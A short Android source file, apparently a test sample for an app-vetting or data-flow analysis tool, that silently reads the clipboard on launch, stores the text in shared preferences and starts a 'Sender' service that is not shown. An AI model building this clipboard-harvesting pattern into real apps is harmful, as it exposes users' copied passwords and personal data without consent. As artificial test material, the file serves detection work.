package org.apkvet.clip.to_preferences_then_network;

import android.app.*;
import android.content.*;
import android.os.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        getSharedPreferences("clips", 0).edit().putString("last", copied()).apply();
        startService(new Intent(this, Sender.class));
    }

    private String copied() {
        return ((ClipboardManager) getSystemService("clipboard")).getPrimaryClip().getItemAt(0).getText().toString();
    }
}
